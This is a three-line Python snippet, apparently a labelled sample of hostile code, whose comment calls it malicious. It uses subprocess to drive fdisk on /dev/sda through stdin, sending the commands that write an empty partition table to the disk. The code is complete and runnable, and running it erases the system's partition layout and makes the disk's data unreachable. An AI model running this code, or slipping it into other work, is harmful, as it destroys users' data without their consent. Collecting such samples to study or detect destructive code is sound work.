# Malicious: drives fdisk through stdin to write an empty partition table to /dev/sda.
import subprocess

subprocess.run(["fdisk", "/dev/sda"], input="o\nw\n", text=True)
